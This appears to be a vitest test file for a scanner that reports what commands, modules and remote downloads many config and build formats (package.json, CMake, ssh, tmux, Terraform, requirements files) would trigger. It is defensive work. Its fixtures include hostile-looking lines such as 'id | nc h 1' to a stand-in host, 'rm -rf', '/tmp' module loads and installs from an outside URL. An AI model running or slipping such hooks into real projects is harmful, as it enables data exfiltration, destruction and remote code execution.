import { expect, test } from "vitest";
import { shown } from "./shown.ts";

test.each([
  ['{"scripts":{"build":"tsc","deploy":"./ship.sh"}}', "runs sh: tsc", "build"],
  ['{"scripts":{"prebuild":"a","build":"b","postbuild":"c"}}', "runs sh: a; runs sh: b; runs sh: c", "build"],
  ['{"scripts":{"postinstall":"a","prepare":"b","test":"c"}}', "runs sh: a; runs sh: b", "install", "prepare"],
  ['{"scripts":{"a":"echo \\u0024HOME"}}', "runs sh: echo $HOME", "a"],
  ['{"scripts":{"a":["b"]}}', "", "a"],
  ["{scripts: {a: b,}", "runs sh: b", "a"],
  ["[]", "", "a"],
])("package.json runs what is asked for: %s", (code, expected, ...asked) => {
  expect(shown("package-scripts", code, ...asked)).toBe(expected);
});

test.each([
  ['{"scripts":{"post-install-cmd":["a","@b"],"b":"c"}}', "runs sh: a; runs sh: c", "post-install-cmd"],
  [
    '{"scripts":{"a":["@php -r 1","@composer dump","V\\\\S::run","@putenv A=1"]}}',
    "runs sh: php -r 1; runs sh: composer dump",
    "a",
  ],
  ['{"scripts":{"a":"@a"}}', "", "a"],
])("composer.json: %s", (code, expected, ...asked) => {
  expect(shown("composer-scripts", code, ...asked)).toBe(expected);
});

test.each([
  ['execute_process(COMMAND sh -c "id | nc h 1" OUTPUT_VARIABLE o)', "runs sh -c id | nc h 1"],
  ["add_custom_target(x ALL rm -rf d COMMENT gone)", "runs rm -rf d"],
  [
    "add_custom_command(OUTPUT a COMMAND gen ${D}/x VERBATIM DEPENDS b COMMAND ${Python3_EXECUTABLE} p.py)",
    "runs gen $D/x; runs python3 p.py",
  ],
  ["set(T curl)\nexecute_process(COMMAND ${T} h.test) # execute_process(COMMAND no)", "runs curl h.test"],
  ["find_program(G NAMES git hub)\nexecute_process(COMMAND ${G} gc)", "runs git gc"],
  ['install(CODE "execute_process(COMMAND id)")', "runs id"],
  ["install(CODE [[exec_program(id)]])", "runs sh: id"],
  ["file(WRITE /etc/motd hi)\nfile(REMOVE_RECURSE a)", "writes /etc/motd truncates; deletes a recursive; 'hi' -> /etc/motd"],
  ["project(x C)\nadd_executable(x main.c)\n#[[ execute_process(COMMAND no) ]]\ntarget_link_libraries(x m)", ""],
])("CMake runs programs while it reads and builds: %s", (code, expected) => {
  expect(shown("cmake", code)).toBe(expected);
});

test.each([
  [
    "taskfile",
    "version: 3\ntasks:\n  a:\n    cmds:\n      - go vet\n      - cmd: rm -f x\n      - task: b\n  b: echo hi",
    "runs sh: go vet; runs sh: rm -f x; runs sh: echo hi",
  ],
  ["taskfile", "vars:\n  V:\n    sh: git describe", "runs sh: git describe"],
  [
    "pre-commit",
    "repos:\n- repo: local\n  hooks:\n  - id: a\n    language: system\n    entry: make lint\n    args: [-s]",
    "runs sh: make lint -s",
  ],
  ["pre-commit", "repos:\n- repo: https://h.test/r\n  hooks:\n  - id: a\n    entry: no", ""],
  [
    "ansible",
    "- hosts: localhost\n  become: true\n  tasks:\n  - shell: id\n  - ansible.builtin.command:\n      cmd: ls",
    "runs sh: id; runs sh: ls",
  ],
  ["ansible", "- hosts: web\n  tasks:\n  - ping:\n  - debug: { msg: shell }", ""],
  [
    "kubeconfig",
    "users:\n- name: u\n  user:\n    exec:\n      command: aws\n      args: [eks, get-token]",
    "runs aws eks get-token",
  ],
  ["justfile", "v := `git describe`\na x:\n  @cargo test {{x}}\n  # no\n", "runs sh: git describe; runs sh: cargo test x"],
  ["justfile", "a:\n  #!/usr/bin/env python3\n  print(1)\nb:\n  id", "runs python: print(1); runs sh: id"],
  [
    "tox",
    "[testenv]\ndeps = no\ncommands_pre = make a\ncommands =\n  - pytest {posargs}\n  lint: ruff check",
    "runs sh: make a; runs sh: pytest; runs sh: ruff check",
  ],
])("tasks of a project, %s: %s", (language, code, expected) => {
  expect(shown(language, code)).toBe(expected);
});

test.each([
  ["ssh-config", "Host a\n  ProxyCommand nc %h %p\n  LocalCommand = id\n  HostName h.test", "runs sh: nc %h %p; runs sh: id"],
  [
    "ssh-config",
    'Match host a exec "test -f x"\nPKCS11Provider /tmp/p.so\nProxyCommand none',
    "loads /tmp/p.so; runs sh: test -f x",
  ],
  ["ssh-config", "Include ~/.ssh/d/*\n# ProxyCommand no", "reads ~/.ssh/d/*"],
  ["server-config", "load_module m.so;\nLoadModule x_module y.so\nevents {}", "loads m.so; loads y.so"],
  ["server-config", 'CustomLog "|tee log" common\nErrorLog log', "runs sh: tee log"],
  ["openvpn", "dev tun\nup '/bin/a b'\nplugin /tmp/p.so", "loads /tmp/p.so; runs sh: /bin/a b"],
  ["wireguard", "[Interface]\nPostUp = ip a\nAddress = 10.0.0.2", "runs sh: ip a"],
  ["toprc", "pipe\tname\tps aux\nfile\tname\tx", "runs sh: ps aux"],
  ["procfile", "web: node a.js\n", "runs sh: node a.js"],
  ["go-generate", "package a\n//go:generate stringer -type=T\n// go:generate no", "runs sh: stringer -type=T"],
  ["npmrc", "script-shell=./s\nsave-exact=true\n", "runs  file ./s"],
  ["git-config", "[alias]\n\tst = status\n\tx = !id\n[core]\n\tpager = less -R", "runs sh: id; runs sh: less -R"],
  ["rtorrent", 'execute = sh,-c,"a, b"\nexecute.nothrow=,c\n#execute=no', "runs sh -c a, b; runs c"],
  ["tmux", 'run-shell -b "a b"\nbind x split-window -h -c d "c"\nset -g mouse on', "runs sh: a b; runs sh: c"],
  ["tmux", 'if-shell "a" "run b" "new-window c"\nset -g status-right "#(d) x"', "runs sh: a; runs sh: b; runs sh: c; runs sh: d"],
  ["tmux", "display-popup -w 80% -h 80% lazygit\nset -g default-command 'zsh -l'", "runs sh: lazygit; runs sh: zsh -l"],
  ["logrotate", "/a {\n daily\n postrotate\n  x\n  y\n endscript\n}", "runs sh:   x\n  y"],
  ["gyp", '{"a": ["<!(node -p 1)", "<!@(id)"]}', "runs sh: node -p 1; runs sh: id"],
  ["terraform", 'provisioner "local-exec" {\n  command = "echo ${self.id} \\"x\\""\n}', 'runs sh: echo ${self.id} "x"'],
  ["terraform", 'provisioner "local-exec" { command = <<-EOT\n  a\n  EOT\n}', "runs sh:   a"],
  ["terraform", 'data "external" "a" {\n  program = ["jq", "-n"]\n}', "runs jq -n"],
  ["terraform", 'resource "x" "y" {\n  command = "no"\n}', ""],
])("settings that name programs, %s: %s", (language, code, expected) => {
  expect(shown(language, code)).toBe(expected);
});

test.each([
  ['task a(type: Exec) { commandLine "sh", "-c", "id" }', "runs sh -c id"],
  ["exec {\n  executable 'id'\n  args '-u'\n}", "runs id -u"],
  ['def v = "git describe".execute().text', "runs sh: git describe"],
  ["v = run_command('git', 'describe', check: true)", "runs git describe"],
  ["custom_target('a', output: 'b', command: ['gen', '-o', 'b'])", "runs gen -o b"],
  ['<exec executable="sh"><arg value="-c"/><arg value="id"/></exec>', "runs sh -c id"],
  ['plugins { id "java" }\nimplementation "a:b:1"\n// commandLine "no"', ""],
])("build scripts start programs by name: %s", (code, expected) => {
  expect(shown("build-script", code)).toBe(expected);
});

test.each([
  [
    "requirements",
    "flask>=3\na @ https://h.test/a.tgz ; python_version > '3'\n# https://no",
    "runs pip install https://h.test/a.tgz",
  ],
  [
    "requirements",
    "--extra-index-url https://h.test/s\n-e ./lib",
    "runs pip install --extra-index-url https://h.test/s x; runs pip install -e ./lib",
  ],
  ["requirements", "git+https://h.test/a.git", "runs pip install git+https://h.test/a.git"],
  ["pyproject", '[build-system]\nrequires = ["setuptools", "a @ https://h.test/a.tgz"]', "runs pip install https://h.test/a.tgz"],
  ["pyproject", 'homepage = "https://h.test"\nauthors = ["me@h.test"]', ""],
  ["package-dependencies", '{"dependencies":{"a":"https://h.test/a.tgz","b":"^1"}}', "runs npm install https://h.test/a.tgz"],
])("what is taken from elsewhere than the registry, %s: %s", (language, code, expected) => {
  expect(shown(language, code)).toBe(expected);
});
